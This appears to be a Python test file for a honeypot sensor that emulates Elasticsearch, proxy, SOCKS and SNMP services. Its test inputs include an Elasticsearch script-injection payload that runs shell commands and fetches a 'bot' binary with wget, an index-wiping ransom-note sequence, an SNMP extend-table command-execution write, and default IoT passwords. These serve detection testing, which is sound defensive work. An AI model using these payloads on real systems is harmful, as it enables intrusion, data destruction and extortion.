"""Real clients at whole sensors: of search engines, proxies, networks' managers, printers, repositories, plants."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from end_to_end.test_device_clients import said
from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.servers import saying, serving, tool
from sensor.harness import SEED, events, running

HOST = Host.from_seed(Seed(SEED))
PASSWORDS = (b"root", b"admin", b"12345", b"xc3511", b"password", b"1234", b"")
LAB = FetchSettings(lab_networks=("127.0.0.0/8",))


def facts(home: Path, kind: str) -> list[Any]:
    assert not events(home, "sensor.faulted")
    return [event.fact for event in events(home, kind)]


async def test_elasticsearch_with_curl(tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    script = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("{}").getText()'
    async with serving(saying(b"HTTP/1.0 200 OK\r\n\r\n\x7fELFx")) as web, running(
        tmp_path, "elasticsearch", fetch=LAB
    ) as net:  # fmt: skip
        where = f"http://127.0.0.1:{net.port}"
        for line, printed in (("id -u", "0\n"), (f"wget -q http://127.0.0.1:{web}/bot", "")):
            body = json.dumps({"size": 1, "script_fields": {"x": {"script": script.format(line)}}})
            found = json.loads(await said(curl, "-s", f"{where}/_search", "-d", body))
            assert found["hits"]["hits"][0]["fields"]["x"] == [printed]
        assert json.loads(await said(curl, "-s", "-XDELETE", f"{where}/*"))["acknowledged"] is True
        note = json.dumps({"note": "send 0.1 BTC to restore your data"})
        assert b'"created":true' in await said(curl, "-s", f"{where}/readme/note/1", "-d", note)
        assert b"readme" in await said(curl, "-s", f"{where}/_cat/indices?v")
    assert [fact.size for fact in facts(tmp_path, "artefact.kept") if fact.origin == "download"] == [5]
    assert "elasticsearch-ransom" in {fact.name for fact in facts(tmp_path, "exploit.recognised")}


async def test_squid_as_curl_sees_it(tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    async with running(tmp_path, "proxy+socks") as net:
        where = f"127.0.0.1:{net.port}"
        answer = await said(curl, "-si", "-x", where, "-U", "a:b", "http://127.0.0.1:9/")
        assert answer.split(b" ")[1] in (b"407", b"503")
        assert b"\r\nServer: squid/" in answer
        await said(curl, "-s", "-x", where, "https://127.0.0.1:9/", code=56)
    asked = [(fact.protocol, fact.action, fact.host, fact.port) for fact in facts(tmp_path, "proxy.asked")]
    assert ("http", "GET", "127.0.0.1", 9) in asked
    assert ("http", "CONNECT", "127.0.0.1", 9) in asked
    assert ("a", "b") in {(fact.user, fact.password) for fact in facts(tmp_path, "login.tried")}


@pytest.mark.parametrize(
    ("scheme", "protocol", "host"),
    [
        ("socks4", "socks4", "127.0.0.1"), ("socks4a", "socks4a", "example.invalid"),
        ("socks5", "socks5", "127.0.0.1"), ("socks5h", "socks5", "example.invalid"),
    ],
)  # fmt: skip
async def test_socks_as_curl_speaks_it(scheme: str, protocol: str, host: str, tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    user, password = next((user, word) for user in HOST.users for word in PASSWORDS if HOST.accepts(user, word))
    login = f"{user.decode()}:{password.decode()}@" if protocol == "socks5" else ""
    async with running(tmp_path, "socks+proxy") as net:
        await said(curl, "-s", "-x", f"{scheme}://{login}127.0.0.1:{net.port}", f"http://{host}:8080/", code=97)
    (asked,) = facts(tmp_path, "proxy.asked")
    assert (asked.protocol, asked.action, asked.host, asked.port) == (protocol, "connect", host, 8080)


async def test_snmp_with_its_own_tools(tmp_path: Path) -> None:
    get, walk, change, bulk = (tool(name, "snmp") for name in ("snmpget", "snmpwalk", "snmpset", "snmpbulkwalk"))
    quick = ("-t", "0.05", "-r", "20")
    async with running(tmp_path, "snmp", transport="udp") as net:
        where = f"127.0.0.1:{net.port}"
        walked = await said(walk, "-v2c", "-c", "public", *quick, where, ".1.3.6.1.2.1.1")
        assert HOST.kernel.encode() in walked
        assert walked.count(b" = ") == 7
        assert HOST.name.encode() in await said(bulk, "-v2c", "-c", "public", *quick, where, ".1.3.6.1.2.1.1.5")
        assert await said(get, "-v1", "-c", "public", "-Oqv", *quick, where, ".1.3.6.1.2.1.1.7.0") == b"72\n"
        tried = ("-v3", "-l", "authNoPriv", "-u", "root", "-a", "MD5", "-A", "rootroot", *quick)
        assert b"Authentication failure" in await said(get, *tried, where, ".1.3.6.1.2.1.1.5.0", code=1)
    (tmp_path / "tcp").mkdir()
    async with running(tmp_path / "tcp", "snmp") as net:
        where = f"tcp:127.0.0.1:{net.port}"
        assert (await said(walk, "-v2c", "-c", "public", where, ".1")).count(b" = ") > 60
        row = ".1.3.6.1.4.1.8072.1.3.2.2.1"
        await said(
            change, "-v2c", "-c", "private", where, f"{row}.2.1.97", "s", "/bin/sh", f"{row}.3.1.97", "s",
            "-c 'id -u'", f"{row}.21.1.97", "i", "4",
        )  # fmt: skip
    assert {(fact.user, fact.scheme) for fact in facts(tmp_path, "login.answered")} == {("root", "snmp")}
    for closed in facts(tmp_path, "session.closed"):
        assert closed.bytes_out <= closed.bytes_in
    assert "id -u" in {fact.line for fact in facts(tmp_path / "tcp", "command.entered")}
